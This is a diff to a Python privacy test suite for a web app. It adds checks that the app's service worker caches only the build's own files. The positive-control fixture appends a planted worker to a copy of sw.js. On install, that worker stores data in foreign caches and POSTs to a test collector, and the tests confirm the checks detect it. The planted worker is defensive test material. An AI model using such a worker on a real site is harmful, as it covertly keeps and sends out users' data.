@@ -17,6 +17,13 @@ leak (a script sending the start of the document to the collector by fetch, imag
 beacon after every render) must report each of the three leaks; if it reports nothing,
 the layer-1 check is blind and this test fails.
 
+The service worker is part of layer 1: each journey waits until the page says whether it
+is stored for offline use, then lists the browser's caches; a cache other than this
+build's one, or a cached URL that is not a file the build wrote on this origin, is a
+problem like a request. Positive control: a planted worker (the real one plus an install
+step that stores a file in another cache and in its own, and posts to the collector)
+must be reported for each.
+
 Layer 2, the policy. On the site as served (header and <meta> policy), a listener for
 `securitypolicyviolation` sees no violation during normal use, and a deliberate request
 to the collector by fetch, image, beacon, form and WebSocket, from JavaScript and from
@@ -141,6 +148,30 @@ class Journey:
     reopened: dict[str, object] = field(default_factory=dict)
     inline_script_ran: bool = False
     violations: list[dict[str, str]] = field(default_factory=list)
+    offline_id: str = ""  # the build id the page asks its worker for
+    caches: dict[str, list[str]] = field(default_factory=dict)  # name -> cached URLs
+
+
+OFFLINE_SETTLED = (
+    "() => ['ready', 'failed', 'unavailable']"
+    ".includes(document.getElementById('offline-status')?.dataset.offline)"
+)
+
+CACHED = """async () => {
+    const out = {};
+    for (const name of await caches.keys()) {
+        out[name] = (await (await caches.open(name)).keys()).map((r) => r.url);
+    }
+    return out;
+}"""
+
+
+def worker_caches(app: App) -> tuple[str, dict[str, list[str]]]:
+    """Once the page says whether it is stored for offline use: its build id and every
+    cache of the origin with the URLs it holds."""
+    app.page.wait_for_function(OFFLINE_SETTLED, timeout=180_000)
+    offline_id = app.page.get_attribute("script[data-offline-id]", "data-offline-id") or ""
+    return offline_id, app.page.evaluate(CACHED)
 
 
 def journey(
@@ -169,6 +200,7 @@ def journey(
         )
         online = run_flow(first, markers[0], tmp)
         result = Journey(server.url, markers, seen, [], [], [], online, inline_script_ran=bool(ran))
+        result.offline_id, result.caches = worker_caches(first)
         if full:
             second = App(page=context.new_page(), base_url=server.url).watch()
             second.page.goto(str(online["link"]))
@@ -245,6 +277,18 @@ def layer1_problems(j: Journey, site_root: Path) -> list[str]:
             problems.append(f"server saw {entry.method} {entry.path}")
     for entry in j.collector_log:
         problems.append(f"collector received {entry.method} {entry.path}")
+    own = f"chunk-inspector-{j.offline_id}"
+    for name, urls in j.caches.items():
+        if name != own:
+            problems.append(f"cache not this build's: {name}")
+        for url in urls:
+            parts = urlsplit(url)
+            if (
+                not url.startswith(j.base_url)
+                or parts.query
+                or _built_file(site_root, parts.path) is None
+            ):
+                problems.append(f"cached, not a built file: {name} {url}")
     return problems
 
 
@@ -390,6 +434,56 @@ def test_positive_control_layer1_reports_a_planted_leak_by_fetch_image_and_beaco
     assert "collector received POST /fetch" in said
     assert "collector received GET /image" in said
     assert "collector received POST /beacon" in said
+
+
+PLANTED_WORKER = """
+// Planted by test_privacy.py: a worker that keeps and sends what it should not.
+self.addEventListener("install", (event) => {
+  event.waitUntil((async () => {
+    const target = %s;
+    const here = new URL("planted.txt", self.location.href).href;
+    await (await caches.open("planted-elsewhere")).put(here, new Response("kept"));
+    await (await caches.open(MANIFEST.cache)).put(target + "cached", new Response("kept"));
+    await fetch(target + "worker", { method: "POST", body: "x", mode: "no-cors" })
+      .catch(() => {});
+  })());
+});
+"""
+
+
+@pytest.fixture(scope="module")
+def rogue_worker(browser, site, copy_site, serve_dir, collector, tmp_path_factory) -> Journey:
+    broken = copy_site()
+    worker = broken / "sw.js"
+    worker.write_text(
+        worker.read_text("utf-8") + PLANTED_WORKER % json.dumps(collector.url), "utf-8"
+    )
+    server = serve_dir(broken, csp=None)
+    return journey(
+        browser,
+        server,
+        collector,
+        tmp_path_factory.mktemp("rogue"),
+        full=False,
+        bypass_csp=True,
+    )
+
+
+def test_positive_control_layer1_reports_a_planted_worker_that_caches_or_sends_elsewhere(
+    rogue_worker: Journey, site
+) -> None:
+    """If this fails, the checks above cannot see a worker that keeps or sends data."""
+    said = "\n".join(layer1_problems(rogue_worker, site.root))
+    assert rogue_worker.caches, "no cache listed: did the worker run?"
+    assert "cache not this build's: planted-elsewhere" in said, said
+    assert f"cached, not a built file: chunk-inspector-{rogue_worker.offline_id} " in said, said
+    assert "collector received POST /worker" in said, said
+
+
+def test_the_real_worker_keeps_only_the_builds_files(unguarded: Journey) -> None:
+    own = f"chunk-inspector-{unguarded.offline_id}"
+    assert unguarded.offline_id and list(unguarded.caches) == [own], list(unguarded.caches)
+    assert any(url.endswith("/index.html") for url in unguarded.caches[own])
 
 
 # ---------------------------------------------------------------- layer 2: the policy
